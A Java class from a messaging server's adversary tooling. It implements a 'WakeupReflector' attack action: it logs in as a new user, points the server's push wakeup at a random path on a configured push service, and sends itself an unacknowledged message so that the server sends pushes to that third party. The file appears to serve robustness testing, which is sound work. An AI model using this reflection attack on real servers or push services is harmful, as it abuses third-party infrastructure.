package org.messagingserver.tools.adversary;

import io.vertx.core.buffer.Buffer;
import java.math.BigInteger;
import java.net.URI;
import java.security.GeneralSecurityException;
import java.security.KeyPairGenerator;
import java.security.interfaces.ECPublicKey;
import java.security.spec.ECGenParameterSpec;
import org.messagingserver.client.Identity;
import org.messagingserver.protocol.Address;
import org.messagingserver.protocol.ClientMessage;
import org.messagingserver.protocol.ProtocolVersion;
import org.messagingserver.protocol.ServerInfo;
import org.messagingserver.protocol.ServerMessage;

/**
 * Each time as a new user, has the server push to the endpoint of somebody else, and writes to
 * itself a message that it never acks.
 */
final class WakeupReflector implements AttackAction {
  private static final int COORDINATE = 32;
  private static final int AUTH = 16;
  private static final byte UNCOMPRESSED = 4;
  private static final Buffer PUBLIC_KEY = publicKey();

  private final URI pushService;

  WakeupReflector(URI pushService) {
    this.pushService = pushService;
  }

  @Override
  public void act(RawTcpConnection connection, Address victim) {
    Buffer serverKey = connection.serverInfo().map(ServerInfo::wakeupKey).orElseGet(Buffer::buffer);
    if (serverKey.length() == 0) {
      return;
    }
    Identity user = Identity.generate();
    send(
        connection,
        MalformedFrames.login(connection.nextSequence(), user, connection.nonce().orElseThrow()));
    send(connection, MalformedFrames.registration(connection.nextSequence(), 1));
    int last = connection.nextSequence();
    connection.onAnswer(
        answer -> {
          if (answer instanceof ServerMessage.Ack && answer.sequence() == last) {
            writeTo(new Address(user.userId(), Attackers.DEVICE), connection);
          }
        });
    send(connection, wakeup(last, serverKey));
  }

  private static void send(RawTcpConnection connection, ClientMessage message) {
    connection.send(MalformedFrames.frame(message));
  }

  /** Each user has another path, which the push service cannot tell from a valid one. */
  private ClientMessage wakeup(int sequence, Buffer serverKey) {
    String endpoint = pushService + Integer.toString(MalformedFrames.random(AUTH).hashCode());
    return new ClientMessage.SetWakeup(
        sequence, endpoint, PUBLIC_KEY, MalformedFrames.random(AUTH), 0, serverKey);
  }

  private static void writeTo(Address self, RawTcpConnection connection) {
    connection
        .another()
        .onSuccess(
            anonymous ->
                anonymous.upgrade(
                    ProtocolVersion.V1,
                    () -> {
                      anonymous.onAnswer(ack -> anonymous.close());
                      send(
                          anonymous,
                          new ClientMessage.OutboundMessage(
                              anonymous.nextSequence(), self, MalformedFrames.random(1)));
                    }));
  }

  /** A point on the curve. Source: RFC 8291, section 3.1. */
  private static Buffer publicKey() {
    try {
      KeyPairGenerator generator = KeyPairGenerator.getInstance("EC");
      generator.initialize(new ECGenParameterSpec("secp256r1"));
      ECPublicKey key = (ECPublicKey) generator.generateKeyPair().getPublic();
      return Buffer.buffer()
          .appendByte(UNCOMPRESSED)
          .appendBytes(coordinate(key.getW().getAffineX()))
          .appendBytes(coordinate(key.getW().getAffineY()));
    } catch (GeneralSecurityException e) {
      throw new IllegalStateException(e);
    }
  }

  private static byte[] coordinate(BigInteger value) {
    byte[] bytes = new byte[COORDINATE];
    byte[] magnitude = value.toByteArray();
    int length = Math.min(COORDINATE, magnitude.length);
    System.arraycopy(magnitude, magnitude.length - length, bytes, COORDINATE - length, length);
    return bytes;
  }
}
